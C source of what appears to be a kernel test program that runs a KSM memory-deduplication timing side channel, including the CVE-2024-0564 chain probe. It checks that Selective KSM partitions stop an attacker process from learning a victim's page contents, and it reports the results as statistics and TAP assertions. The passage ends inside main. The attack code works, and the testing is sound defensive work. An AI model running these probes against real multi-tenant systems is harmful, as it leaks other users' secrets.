// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * ksm-attack: the memory-deduplication timing side channel, run for real
 * against the patched kernel: an attacker process learns which of N
 * candidate values a victim process holds in a page by filling one page
 * per candidate, letting the pages merge, then timing a probe of each of
 * its own pages (a write to a merged page is a copy-on-write fault; a
 * write to a private page is a store). See doc/security.md.
 *
 *   ksm-attack [OPTIONS]
 *
 * Cases (--case, default all):
 *   global  attacker and victim both PR_SET_MEMORY_MERGE, merged by ksmd
 *   same    both joined to one partition (prctl(PR_SET_KSM_PARTITION)),
 *           each merged synchronously (ksm_merge)
 *   cross   attacker and victim each in their own partition
 *
 * In every batch the victim (uid 1001) holds B secret pages, page t holding
 * candidate s[t] (random, one of N) twice, so that its pages merge in its
 * own domain whatever the attacker does; the attacker (uid 1000) holds
 * B x N guess pages (one per trial and candidate) and B pairs of its own
 * duplicate pages (the control: proof that its probe sees a merge in its
 * own domain). After merging, the parent (root) proves what merged from
 * /proc/PID/pagemap PFNs and the partitions' counters, then the attacker
 * probes all its guess pages and the second page of every control pair in
 * a random order with the cycle counter (rdtsc between lfences; the test
 * kernel's clocksource is jiffies; --tsc-mhz gives the counter's rate).
 *
 * Probes (--probe, default write; all: every one):
 *   write   store one byte (a merged page takes a copy-on-write fault)
 *   read    load one byte (on hardware: Flush+Reload; under TCG: no cache)
 *   unmap   MADV_DONTNEED of the page (a page others still map is not freed)
 *   chain   the attacker holds --max-sharing (max_page_sharing) copies of
 *           each guess and times MADV_DONTNEED of all of them
 *           (CVE-2024-0564; the program sets max_page_sharing)
 *
 * Per case the right-guess and wrong-guess probe times are compared: ROC
 * area (AUC, oriented: 1 = right guesses probe like merged pages), Mann-
 * Whitney U (normal approximation with tie correction) and two-sample
 * Kolmogorov-Smirnov, both two-sided; and the attacker's accuracy when it
 * takes the candidate of each trial that probes most like a merged page
 * (slowest; fastest for unmap) as its guess.
 *
 * Output: a table on stdout; "@T ..." lines (one per case, the table's
 * data) and "@H case probe class cycles count" lines (log-binned
 * histograms of the probe times) for the host's plot; with --tap, TAP
 * assertions for make check. Exit 0; 1 on a failed assertion (--tap) or
 * when the set-up fails; 4 when the kernel lacks Selective KSM.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdarg.h>
#include <fcntl.h>
#include <getopt.h>
#include <grp.h>
#include <math.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/random.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <x86intrin.h>

#include "ksm.h"
#include "ksm_test_util.h"

#ifndef PR_SET_MEMORY_MERGE
#define PR_SET_MEMORY_MERGE 67
#endif

#define PSZ 4096UL
#define PFN_MASK ((1ULL << 55) - 1)
#define ATK_UID 1000
#define VIC_UID 1001

enum kase { C_GLOBAL, C_SAME, C_CROSS, NCASES };
static const char *const case_name[NCASES] = { "global", "same", "cross" };
enum probe { P_WRITE, P_READ, P_UNMAP, P_CHAIN, NPROBES };
static const char *const probe_name[NPROBES] = { "write", "read", "unmap", "chain" };

static unsigned int trials = 3000, batch = 1000, ncand = 4;
static bool tap;
static int tapn, tapfail;
static double cyc_per_ns, alpha = 0.001;
/*
 * The chain probe (CVE-2024-0564): the attacker holds max_page_sharing
 * copies of each guess, so that its own copies fill a KSM page whether the
 * victim holds the value or not (a write to any of them is a copy-on-write
 * either way), and one more holder makes a stable node chain with a second
 * KSM page; it times the unmapping of all the copies of a guess at once.
 */
static unsigned int max_sharing = 16;

/* Pages the attacker holds per guess. */
static unsigned int copies(enum probe p)
{
	return p == P_CHAIN ? max_sharing : 1;
}

/* ------------------------------------------------------------ helpers */

static void die(const char *fmt, ...)
{
	va_list ap;
	int e = errno;

	fprintf(stderr, "ksm-attack: ");
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fprintf(stderr, ": %s\n", strerror(e));
	exit(1);
}

static uint64_t splitmix(uint64_t *s)
{
	uint64_t z = (*s += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

/* Page content number C of trial T: distinct for every (salt, t, c). */
static void fill(void *page, uint64_t salt, unsigned int t, unsigned int c)
{
	uint64_t s = salt ^ ((uint64_t)t << 20) ^ ((uint64_t)c << 52), *q = page;

	for (unsigned long i = 0; i < PSZ / 8; i++)
		q[i] = splitmix(&s);
}

static inline uint64_t tsc(void)
{
	uint64_t t;

	_mm_lfence();
	t = __rdtsc();
	_mm_lfence();
	return t;
}

/* Cycles of the time-stamp counter per nanosecond, against CLOCK_MONOTONIC. */
static double calibrate(double secs)
{
	struct timespec a, b;
	uint64_t t0, t1;

	clock_gettime(CLOCK_MONOTONIC, &a);
	t0 = tsc();
	do
		clock_gettime(CLOCK_MONOTONIC, &b);
	while ((b.tv_sec - a.tv_sec) + (b.tv_nsec - a.tv_nsec) / 1e9 < secs);
	t1 = tsc();
	return (t1 - t0) / ((b.tv_sec - a.tv_sec) * 1e9 + (b.tv_nsec - a.tv_nsec));
}

/* PFNs of N pages from ADDR of PID, in one read of its pagemap (root). */
static void pfns(pid_t pid, unsigned long addr, size_t n, uint64_t *out)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/pagemap", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		die("open %s", path);
	if (pread(fd, out, n * 8, addr / PSZ * 8) != (ssize_t)(n * 8))
		die("read %s", path);
	close(fd);
	for (size_t i = 0; i < n; i++)
		out[i] = (out[i] >> 63) ? out[i] & PFN_MASK : 0;
}

static int cmp_u64(const void *a, const void *b)
{
	uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;

	return x < y ? -1 : x > y;
}

static unsigned long part_counter(const char *part, const char *name)
{
	char attr[160];
	unsigned long long v;

	snprintf(attr, sizeof(attr), "partition/%s/%s", part, name);
	return ksm_sysfs_get_ull(attr, &v) ? (unsigned long)-1 : v;
}

/* ------------------------------------------------------------ statistics */

struct sample {
	uint64_t v;
	int cls; /* 1: first group (right guess), 0: second */
};

static int cmp_sample(const void *a, const void *b)
{
	return cmp_u64(&((const struct sample *)a)->v, &((const struct sample *)b)->v);
}

struct stats {
	double auc, z, p_mwu, d, p_ks;
};

/* Kolmogorov distribution tail Q_KS(lambda) (Numerical Recipes' probks). */
static double q_ks(double lambda)
{
	double sum = 0, fac = 2, prev = 0;

	if (lambda < 0.2)
		return 1;
	for (int j = 1; j <= 100; j++) {
		double term = fac * exp(-2 * j * j * lambda * lambda);

		sum += term;
		if (fabs(term) <= 1e-4 * fabs(prev) || fabs(term) <= 1e-10 * sum)
			return fmin(1, fmax(0, sum));
		fac = -fac;
		prev = term;
	}
	return 1;
}

/*
 * X (nx values) against Y: AUC = P(X > Y) + P(X = Y)/2 = U_X / (nx ny);
 * Mann-Whitney z with tie correction and continuity correction, two-sided
 * p; Kolmogorov-Smirnov D and its asymptotic two-sided p.
 */
static struct stats compare(const uint64_t *x, size_t nx, const uint64_t *y, size_t ny)
{
	size_t n = nx + ny, i, j;
	struct sample *s = malloc(n * sizeof(*s));
	double r1 = 0, ties = 0, u, mu, sigma, fx = 0, fy = 0, d = 0, en;
	struct stats st;

	if (!s)
		die("malloc");
	for (i = 0; i < nx; i++)
		s[i] = (struct sample){ x[i], 1 };
	for (i = 0; i < ny; i++)
		s[nx + i] = (struct sample){ y[i], 0 };
	qsort(s, n, sizeof(*s), cmp_sample);
	for (i = 0; i < n; i = j) {
		size_t cx = 0, cy = 0;
		double rank;

		for (j = i; j < n && s[j].v == s[i].v; j++)
			s[j].cls ? cx++ : cy++;
		rank = (i + 1 + j) / 2.0; /* mean of ranks i+1 .. j */
		r1 += rank * cx;
		ties += (double)(j - i) * (j - i) * (j - i) - (j - i);
		fx += (double)cx / nx;
		fy += (double)cy / ny;
		d = fmax(d, fabs(fx - fy));
	}
	free(s);
	u = r1 - nx * (nx + 1) / 2.0;
	st.auc = u / ((double)nx * ny);
	mu = nx * (double)ny / 2;
	sigma = sqrt(nx * (double)ny / 12 * ((n + 1) - ties / ((double)n * (n - 1))));
	st.z = sigma > 0 ? (fabs(u - mu) > 0.5 ? (u - mu - copysign(0.5, u - mu)) / sigma : 0) : 0;
	st.p_mwu = erfc(fabs(st.z) / sqrt(2));
	st.d = d;
	en = sqrt(nx * (double)ny / n);
	st.p_ks = q_ks((en + 0.12 + 0.11 / en) * d);
	return st;
}

static uint64_t median(const uint64_t *v, size_t n)
{
	uint64_t *c = malloc(n * 8), m;

	if (!c)
		die("malloc");
	memcpy(c, v, n * 8);
	qsort(c, n, 8, cmp_u64);
	m = n % 2 ? c[n / 2] : (c[n / 2 - 1] + c[n / 2]) / 2;
	free(c);
	return m;
}

/* ------------------------------------------------------------ the two tenants */

struct child {
	pid_t pid;
	int cmd, res; /* pipes: commands to it, replies from it */
	unsigned long addr;
};

struct reply {
	long val;
	int err;
	unsigned long addr;
};

static void reply(int fd, long val, int err, unsigned long addr)
{
	struct reply r = { val, err, addr };

	if (write(fd, &r, sizeof(r)) != sizeof(r))
		_exit(3);
}

static struct reply ask(struct child *c, char cmd)
{
	struct reply r;

	if (write(c->cmd, &cmd, 1) != 1 || read(c->res, &r, sizeof(r)) != sizeof(r)) {
		errno = EPIPE;
		die("child %d died", c->pid);
	}
	return r;
}

struct plan {
	enum kase kase;
	enum probe probe;
	uint64_t salt;
	unsigned int b;		/* trials in this batch */
	unsigned char *secret;	/* b values < ncand */
	char part[2][32];	/* partition of the victim [0] and attacker [1] */
	uint64_t *times;	/* shared: b*ncand guess probes, then b control probes */
};

static void drop_to(uid_t uid)
{
	if (setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid))
		_exit(2);
}

/*
 * A tenant: set up its pages, enter its domain, then obey the parent:
 * 'm' merge itself in its partition, 'p' probe (attacker), 'x' exit.
 */
static void tenant(const struct plan *pl, bool attacker, int cmd, int res)
{
	unsigned int b = pl->b, cp = copies(pl->probe), n = attacker ? b * ncand * cp + 2 * b : 2 * b;
	unsigned char *mem;
	int fd = -1;
	char c;

	/* The partition is opened as root (the operator hands the tenant an fd). */
	if (pl->kase != C_GLOBAL) {
		fd = ksm_open(pl->part[attacker], 0, 0);
		if (fd < 0)
			reply(res, -1, errno, 0), _exit(2);
	}
	drop_to(attacker ? ATK_UID : VIC_UID);
	mem = mmap(NULL, n * PSZ, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (mem == MAP_FAILED)
		reply(res, -1, errno, 0), _exit(2);
	madvise(mem, n * PSZ, MADV_NOHUGEPAGE);
	for (unsigned int t = 0; t < b; t++) {
		if (attacker) {
			for (unsigned int g = 0; g < ncand; g++)
				for (unsigned int k = 0; k < cp; k++)
					fill(mem + ((t * ncand + g) * cp + k) * PSZ, pl->salt, t, g);
			/* control pair: a value of the attacker's own, twice */
			fill(mem + (b * ncand * cp + t) * PSZ, pl->salt, t, ncand);
			fill(mem + (b * ncand * cp + b + t) * PSZ, pl->salt, t, ncand);
		} else {
			fill(mem + t * PSZ, pl->salt, t, pl->secret[t]);
			fill(mem + (b + t) * PSZ, pl->salt, t, pl->secret[t]);
		}
	}
	if (pl->kase == C_GLOBAL ? prctl(PR_SET_MEMORY_MERGE, 1, 0, 0, 0) : ksm_join(fd))
		reply(res, -1, errno, 0), _exit(2);
	reply(res, 0, 0, (unsigned long)mem);

	while (read(cmd, &c, 1) == 1) {
		if (c == 'm') {
			long r = ksm_merge(fd, 0, 0, 0);

			reply(res, r, r < 0 ? errno : 0, 0);
		} else if (c == 'p') {
			unsigned int np = b * ncand + b, *order = malloc(np * sizeof(*order));
			uint64_t seed = pl->salt ^ 0x5eed;
			volatile unsigned char *p;
			uint64_t t0, t1;

			if (!order)
				reply(res, -1, ENOMEM, 0), _exit(2);
			/* probe targets: guess pages 0..b*ncand-1, then the control copies */
			for (unsigned int i = 0; i < np; i++)
				order[i] = i;
			for (unsigned int i = np - 1; i > 0; i--) {
				unsigned int j = splitmix(&seed) % (i + 1), k = order[i];

				order[i] = order[j];
				order[j] = k;
			}
			for (unsigned int i = 0; i < np; i++) {
				unsigned int k = order[i];
				unsigned long pg = k < b * ncand ? k * cp : b * ncand * cp + b + (k - b * ncand);

				p = mem + pg * PSZ + (splitmix(&seed) % PSZ);
				if (pl->probe == P_CHAIN && k < b * ncand) {
					t0 = tsc();
					madvise(mem + pg * PSZ, cp * PSZ, MADV_DONTNEED);
					t1 = tsc();
					pl->times[k] = t1 - t0;
					continue;
				}
				if (pl->probe == P_WRITE) {
					t0 = tsc();
					*p = 0x5a;
					t1 = tsc();
				} else if (pl->probe == P_READ) {
					t0 = tsc();
					(void)*p;
					t1 = tsc();
				} else { /* unmap; and the chain probe's control pages */
					t0 = tsc();
					madvise((void *)((unsigned long)p & ~(PSZ - 1)), PSZ, MADV_DONTNEED);
					t1 = tsc();
				}
				pl->times[k] = t1 - t0;
			}
			free(order);
			reply(res, 0, 0, 0);
		} else {
			_exit(0);
		}
	}
	_exit(0);
}

static struct child spawn(const struct plan *pl, bool attacker)
{
	struct child c;
	int cp[2], rp[2];
	struct reply r;

	if (pipe(cp) || pipe(rp))
		die("pipe");
	c.pid = fork();
	if (c.pid < 0)
		die("fork");
	if (c.pid == 0) {
		close(cp[1]);
		close(rp[0]);
		tenant(pl, attacker, cp[0], rp[1]);
	}
	close(cp[0]);
	close(rp[1]);
	c.cmd = cp[1];
	c.res = rp[0];
	if (read(c.res, &r, sizeof(r)) != sizeof(r) || r.val < 0) {
		errno = r.err;
		die("%s set-up", attacker ? "attacker" : "victim");
	}
	c.addr = r.addr;
	return c;
}

static void reap(struct child *c)
{
	char x = 'x';

	if (write(c->cmd, &x, 1) != 1)
		kill(c->pid, SIGKILL);
	waitpid(c->pid, NULL, 0);
	close(c->cmd);
	close(c->res);
}

/* ------------------------------------------------------------ one case */

#define NBINS 256 /* 16 bins per octave of cycles */
static unsigned int bin_of(uint64_t v)
{
	unsigned int b = (unsigned int)(16 * log2((double)(v ? v : 1)));

	return b < NBINS ? b : NBINS - 1;
}

struct result {
	uint64_t *right, *wrong, *ctrl;
	size_t nr, nw, nc;
	unsigned long correct;		/* trials the attacker guessed right */
	unsigned long vic_merged;	/* victim pairs on one frame */
	unsigned long atk_ctrl_merged;	/* attacker control pairs on one frame */
	unsigned long right_on_victim;	/* right guesses on the victim's frame */
	unsigned long cross_frames;	/* frames mapped by both tenants */
	unsigned long vic_part_sharing, atk_part_sharing, atk_merging;
	bool merge_failed;
};

static const char *const knobs[] = { "run", "pages_to_scan", "sleep_millisecs", "smart_scan",
				     "max_page_sharing", NULL };

/* ksmd at full speed until the expected sharing appears (or 10 scans). */
static void ksmd_merge(unsigned long want)
{
	unsigned long base = ksm_read_ulong("pages_sharing"), f0;

	ksm_write_ulong("run", 0);
	ksm_write_ulong("pages_to_scan", 5000);
	ksm_write_ulong("sleep_millisecs", 1);
	ksm_write_ulong("smart_scan", 0);
	f0 = ksm_read_ulong("full_scans");
	if (ksm_write_ulong("run", 1))
		die("start ksmd");
	for (unsigned long i = 0, last = 0, lastfs = 0, now; i < 6000; i++) {
		unsigned long fs = ksm_read_ulong("full_scans") - f0;

		now = ksm_read_ulong("pages_sharing") - base;
		if (fs >= 3 && now >= want)
			break;
		if (fs >= 12)
			break;
		if (fs != lastfs) { /* settled: no change over a whole scan */
			if (fs >= 4 && now == last)
				break;
			last = now;
			lastfs = fs;
		}
		usleep(50000);
	}
	ksm_write_ulong("run", 0); /* nothing runs while the attacker probes */
}

/*
 * After the global case: the tenants have exited, but ksmd forgets their
 * pages only when it scans (the global counters stay stale and, with
 * pages_shared non-zero, max_page_sharing cannot change). Let it scan until
 * pages_shared is back to what it was before the batch.
 */
static void ksmd_forget(unsigned long shared_before)
{
	unsigned long f0 = ksm_read_ulong("full_scans");

	if (ksm_write_ulong("run", 1))
		die("start ksmd");
	for (int i = 0; i < 600; i++) {
		unsigned long fs = ksm_read_ulong("full_scans") - f0;

		if ((fs >= 1 && ksm_read_ulong("pages_shared") <= shared_before) || fs >= 4)
			break;
		usleep(50000);
	}
	ksm_write_ulong("run", 0);
}

static void run_batch(struct plan *pl, struct result *res)
{
	unsigned long shared_before = ksm_read_ulong("pages_shared");
	unsigned int b = pl->b, cp = copies(pl->probe), na = b * ncand * cp + 2 * b;
	struct child vic, atk;
	uint64_t *pv, *pa, *sv, *sa;
	size_t i, j;

	for (i = 0; i < b; i++)
		pl->secret[i] = splitmix(&pl->salt) % ncand;
	if (pl->kase != C_GLOBAL) {
		static unsigned int seq;
		int fd;

		if (pl->kase == C_SAME) {
			snprintf(pl->part[0], 32, "tenants-%d-%u", getpid(), seq++);
			strcpy(pl->part[1], pl->part[0]);
		} else {
			snprintf(pl->part[0], 32, "victim-%d-%u", getpid(), seq);
			snprintf(pl->part[1], 32, "attacker-%d-%u", getpid(), seq++);
		}
		for (i = 0; i < (pl->kase == C_SAME ? 1 : 2); i++) {
			fd = ksm_open(pl->part[i], KSM_CREAT | KSM_EXCL, 0600);
			if (fd < 0)
				die("ksm_open %s", pl->part[i]);
			close(fd);
		}
	}
	vic = spawn(pl, false);
	atk = spawn(pl, true);

	if (pl->kase == C_GLOBAL) {
		ksmd_merge(cp == 1 ? 3UL * b : b * ((ncand - 1) * (cp - 1) + cp + 1UL));
	} else {
		struct reply r = ask(&vic, 'm');

		if (r.val < 0)
			errno = r.err, die("victim ksm_merge");
		r = ask(&atk, 'm');
		if (r.val < 0)
			errno = r.err, die("attacker ksm_merge");
	}

	/* What merged, from the PFNs (root) and the counters. */
	pv = malloc(2 * b * 8);
	pa = malloc(na * 8);
	sv = malloc(2 * b * 8);
	sa = malloc(na * 8);
	if (!pv || !pa || !sv || !sa)
		die("malloc");
	pfns(vic.pid, vic.addr, 2 * b, pv);
	pfns(atk.pid, atk.addr, na, pa);
	for (i = 0; i < b; i++) {
		res->vic_merged += pv[i] && pv[i] == pv[b + i];
		unsigned long c0 = b * ncand * cp + i, r0 = (i * ncand + pl->secret[i]) * cp;
		bool on = false;

		res->atk_ctrl_merged += pa[c0] && pa[c0] == pa[c0 + b];
		for (unsigned int k = 0; k < cp; k++)
			on |= pv[i] && pa[r0 + k] == pv[i];
		res->right_on_victim += on;
	}
	memcpy(sv, pv, 2 * b * 8);
	memcpy(sa, pa, na * 8);
	qsort(sv, 2 * b, 8, cmp_u64);
	qsort(sa, na, 8, cmp_u64);
	for (i = j = 0; i < 2 * b && j < na;) {
		if (!sv[i] || sv[i] < sa[j])
			i++;
		else if (sv[i] > sa[j])
			j++;
		else {
			uint64_t f = sv[i];

			res->cross_frames++;
			while (i < 2 * b && sv[i] == f)
				i++;
		}
	}
	free(pv);
	free(pa);
	free(sv);
	free(sa);
	if (pl->kase != C_GLOBAL) {
		res->vic_part_sharing += part_counter(pl->part[0], "pages_sharing");
		if (pl->kase == C_CROSS)
			res->atk_part_sharing += part_counter(pl->part[1], "pages_sharing");
	}
	res->atk_merging += proc_ksm_stat(atk.pid, "ksm_merging_pages");

	/* The attack. */
	ask(&atk, 'p');
	for (unsigned int t = 0; t < b; t++) {
		uint64_t best = 0;
		unsigned int guess = 0;

		for (unsigned int g = 0; g < ncand; g++) {
			uint64_t v = pl->times[t * ncand + g];

			if (g == pl->secret[t])
				res->right[res->nr++] = v;
			else
				res->wrong[res->nw++] = v;
			/* write, read: slowest; unmap: fastest (a shared page is not freed) */
			if (pl->probe == P_UNMAP)
				v = UINT64_MAX - v;
			if (v > best)
				best = v, guess = g;
		}
		res->correct += guess == pl->secret[t];
		res->ctrl[res->nc++] = pl->times[b * ncand + t];
	}
	reap(&atk);
	reap(&vic);
	if (pl->kase == C_GLOBAL) {
		ksmd_forget(shared_before);
	} else {
		ksm_unlink(pl->part[0]);
		if (pl->kase == C_CROSS)
			ksm_unlink(pl->part[1]);
	}
}

static void tap_ok(bool ok, const char *fmt, ...)
{
	va_list ap;

	printf("%s %d - ", ok ? "ok" : "not ok", ++tapn);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf("\n");
	fflush(stdout);
	tapfail += !ok;
}

static void run_case(enum kase k, enum probe pr)
{
	struct result r = { 0 };
	struct plan pl = { .kase = k, .probe = pr };
	unsigned int done = 0, bins[3][NBINS] = { { 0 } };
	struct stats s, sc;
	const char *verdict;
	bool leak, closed;

	r.right = malloc(trials * 8);
	r.wrong = malloc((size_t)trials * (ncand - 1) * 8);
	r.ctrl = malloc(trials * 8);
	pl.secret = malloc(batch);
	pl.times = mmap(NULL, (size_t)batch * (ncand + 1) * 8, PROT_READ | PROT_WRITE,
			MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (!r.right || !r.wrong || !r.ctrl || !pl.secret || pl.times == MAP_FAILED)
		die("memory for %u trials", trials);
	if (getrandom(&pl.salt, sizeof(pl.salt), 0) != sizeof(pl.salt))
		die("getrandom");
	while (done < trials) {
		pl.b = trials - done < batch ? trials - done : batch;
		run_batch(&pl, &r);
		done += pl.b;
	}
	/*
	 * AUC oriented so that 1 means "a merged page probes the way the
	 * attacker expects": slower for write and read, faster for unmap.
	 */
	if (pr == P_UNMAP) {
		s = compare(r.wrong, r.nw, r.right, r.nr);
		sc = compare(r.wrong, r.nw, r.ctrl, r.nc);
	} else {
		s = compare(r.right, r.nr, r.wrong, r.nw);
		sc = compare(r.ctrl, r.nc, r.wrong, r.nw);
	}
	leak = s.auc >= 0.9 && s.p_mwu < alpha && s.p_ks < alpha;
	closed = s.auc > 0.4 && s.auc < 0.6 && s.p_mwu >= alpha && s.p_ks >= alpha;
	/* weak: both tests reject but the AUC is short of 0.9 (the attacker
	 * needs repeated trials); differs: one test rejects */
	verdict = leak ? "leaks" : closed ? "nothing-learned" :
		  (s.p_mwu < alpha && s.p_ks < alpha) ? "weak-leak" :
		  (s.p_mwu < alpha || s.p_ks < alpha) ? "differs" : "inconclusive";

	printf("%-7s %-5s %6u %10llu %10llu %8.0f %8.0f %6.3f %7.2f %9.2g %6.3f %9.2g %5.1f%% %6.3f %5lu %5lu %5lu %5lu  %s\n",
	       case_name[k], probe_name[pr], trials,
	       (unsigned long long)median(r.right, r.nr), (unsigned long long)median(r.wrong, r.nw),
	       median(r.right, r.nr) / cyc_per_ns, median(r.wrong, r.nw) / cyc_per_ns,
	       s.auc, s.z, s.p_mwu, s.d, s.p_ks, 100.0 * r.correct / trials, sc.auc,
	       r.vic_merged, r.atk_ctrl_merged, r.right_on_victim, r.cross_frames, verdict);
	printf("@T %s %s %u %u %llu %llu %llu %.0f %.0f %.0f %.4f %.3f %.3g %.4f %.3g %.4f %.4f %lu %lu %lu %lu %lu %lu %lu %s\n",
	       case_name[k], probe_name[pr], trials, ncand,
	       (unsigned long long)median(r.right, r.nr), (unsigned long long)median(r.wrong, r.nw),
	       (unsigned long long)median(r.ctrl, r.nc),
	       median(r.right, r.nr) / cyc_per_ns, median(r.wrong, r.nw) / cyc_per_ns,
	       median(r.ctrl, r.nc) / cyc_per_ns,
	       s.auc, s.z, s.p_mwu, s.d, s.p_ks, (double)r.correct / trials, sc.auc,
	       r.vic_merged, r.atk_ctrl_merged, r.right_on_victim, r.cross_frames,
	       r.vic_part_sharing, r.atk_part_sharing, r.atk_merging,
	       verdict);
	for (size_t i = 0; i < r.nr; i++)
		bins[0][bin_of(r.right[i])]++;
	for (size_t i = 0; i < r.nw; i++)
		bins[1][bin_of(r.wrong[i])]++;
	for (size_t i = 0; i < r.nc; i++)
		bins[2][bin_of(r.ctrl[i])]++;
	for (int c = 0; c < 3 && !tap; c++)
		for (int i = 0; i < NBINS; i++)
			if (bins[c][i])
				printf("@H %s %s %s %.0f %u\n", case_name[k], probe_name[pr],
				       c == 0 ? "right" : c == 1 ? "wrong" : "control",
				       exp2(i / 16.0), bins[c][i]);
	fflush(stdout);

	if (tap && pr == P_WRITE) {
		/* Merging happened where it should, whatever the timing says. */
		tap_ok(r.vic_merged >= trials * 9 / 10,
		       "%s: victim's secret pages merged in its own domain (%lu/%u pairs on one frame)",
		       case_name[k], r.vic_merged, trials);
		tap_ok(r.atk_ctrl_merged >= trials * 9 / 10 && sc.auc >= 0.9,
		       "%s: attacker's own duplicates merged (%lu/%u) and its probe sees them (control AUC %.3f >= 0.9)",
		       case_name[k], r.atk_ctrl_merged, trials, sc.auc);
		if (k == C_CROSS) {
			tap_ok(r.cross_frames == 0 && r.right_on_victim == 0,
			       "cross: no frame mapped by both tenants (%lu)", r.cross_frames);
			tap_ok(r.vic_part_sharing >= trials * 9 / 10,
			       "cross: victim partition's pages_sharing %lu >= 90%% of %u", r.vic_part_sharing, trials);
			tap_ok(closed, "cross: right and wrong guesses indistinguishable (AUC %.3f in (0.4,0.6), MWU p %.3g, KS p %.3g >= %g)",
			       s.auc, s.p_mwu, s.p_ks, alpha);
		} else {
			tap_ok(r.right_on_victim >= trials * 9 / 10,
			       "%s: right guesses share the victim's frame (%lu/%u)", case_name[k],
			       r.right_on_victim, trials);
			tap_ok(s.auc >= 0.9, "%s: the attack succeeds (AUC %.3f >= 0.9, accuracy %.1f%%, chance %.1f%%)",
			       case_name[k], s.auc, 100.0 * r.correct / trials, 100.0 / ncand);
		}
	}
	free(r.right);
	free(r.wrong);
	free(r.ctrl);
	free(pl.secret);
	munmap(pl.times, (size_t)batch * (ncand + 1) * 8);
}

static void usage(FILE *f)
{
	fprintf(f,
		"usage: ksm-attack [--case global|same|cross|all] [--probe write|read|unmap|all]\n"
		"                  [--trials T] [--batch B] [--candidates N] [--tsc-mhz F]\n"
		"                  [--alpha A] [--max-sharing S] [--tap]\n"
		"Runs the deduplication timing attack (root; the tenants run as uid %d and %d).\n",
		ATK_UID, VIC_UID);
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "case", required_argument, NULL, 'c' },
		{ "probe", required_argument, NULL, 'p' },
		{ "trials", required_argument, NULL, 't' },
		{ "batch", required_argument, NULL, 'b' },
		{ "candidates", required_argument, NULL, 'n' },
		{ "tap", no_argument, NULL, 'T' },
		{ "tsc-mhz", required_argument, NULL, 'f' },
		{ "alpha", required_argument, NULL, 'a' },
		{ "max-sharing", required_argument, NULL, 'S' },
		{ "help", no_argument, NULL, 'h' },
		{ 0 }
	};
	unsigned int cases = 7, probes = 1;
	struct ksm_knobs saved;
	double tsc_mhz = 0;
	int o;

	while ((o = getopt_long(argc, argv, "c:p:t:b:n:Tf:a:S:h", opts, NULL)) != -1) {
		switch (o) {
		case 'c':
			cases = !strcmp(optarg, "all") ? 7 : 0;
			for (int k = 0; k < NCASES; k++)
				if (!strcmp(optarg, case_name[k]))
					cases = 1u << k;
			if (!cases)
				return usage(stderr), 2;
			break;
		case 'p':
			probes = !strcmp(optarg, "all") ? 15 : 0;
			for (int k = 0; k < NPROBES; k++)
				if (!strcmp(optarg, probe_name[k]))
					probes = 1u << k;
			if (!probes)
				return usage(stderr), 2;
			break;
		case 't':
			trials = strtoul(optarg, NULL, 0);
			break;
		case 'b':
			batch = strtoul(optarg, NULL, 0);
			break;
		case 'n':
			ncand = strtoul(optarg, NULL, 0);
			break;
		case 'T':
			tap = true;
			break;
		case 'f':
			tsc_mhz = strtod(optarg, NULL);
			break;
		case 'a':
			alpha = strtod(optarg, NULL);
			break;
		case 'S':
			max_sharing = strtoul(optarg, NULL, 0);
			break;
		case 'h':
			usage(stdout);
			return 0;
		default:
			usage(stderr);
			return 2;
		}
	}
	if (trials < 10 || batch < 1 || ncand < 2 || ncand > 255 || max_sharing < 4) {
		fprintf(stderr, "ksm-attack: need --trials >= 10, --batch >= 1, 2 <= --candidates <= 255, --max-sharing >= 4\n");
		return 2;
	}
	if (batch > trials)
		batch = trials;
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (tap)
		printf("TAP version 13\n");
	if (!(ksm_features() & KSM_FEAT_PARTITION_JOIN)) {
		printf(tap ? "1..0 # SKIP no Selective KSM partition membership in this kernel\n"
			   : "ksm-attack: no Selective KSM partition membership in this kernel\n");
		return 4;
	}
	if (tap)
		printf("1..%d\n", 4 * !!(cases & 1) + 4 * !!(cases & 2) + 5 * !!(cases & 4));
	ksm_knobs_save(&saved, knobs);
	/* The chain probe needs max_page_sharing = its number of copies (the
	 * other probes put at most 3 mappings on a KSM page). */
	if ((probes >> P_CHAIN & 1) && ksm_read_ulong("max_page_sharing") != max_sharing &&
	    ksm_write_ulong("max_page_sharing", max_sharing))
		die("max_page_sharing %u (it cannot change while a page is merged or a partition exists)",
		    max_sharing);
	cyc_per_ns = tsc_mhz > 0 ? tsc_mhz / 1000 : calibrate(tap ? 0.3 : 1.0);
	printf("# %u trials per case in batches of %u, %u candidates per secret page (chance %.0f%%);"
	       " TSC %.3f cycles/ns (%s); alpha %g\n",
	       trials, batch, ncand, 100.0 / ncand, cyc_per_ns,
	       tsc_mhz > 0 ? "--tsc-mhz, measured on the host" :
	       "approximate: calibrated against the guest's jiffies clock", alpha);
	printf("# probe times in cycles (medians; ns = cycles / %.3f)\n", cyc_per_ns);
	printf("%-7s %-5s %6s %10s %10s %8s %8s %6s %7s %9s %6s %9s %6s %6s %5s %5s %5s %5s  %s\n",
	       "case", "probe", "trials", "right_cyc", "wrong_cyc", "right_ns", "wrong_ns", "AUC",
	       "MWU_z", "MWU_p", "KS_D", "KS_p", "acc", "ctlAUC", "vicM", "atkM", "onVic", "xfrm",
	       "verdict");
	for (int p = 0; p < NPROBES; p++)
		for (int k = 0; k < NCASES; k++)
			if ((probes >> p & 1) && (cases >> k & 1))
				run_case(k, p);
	ksm_knobs_restore(&saved);
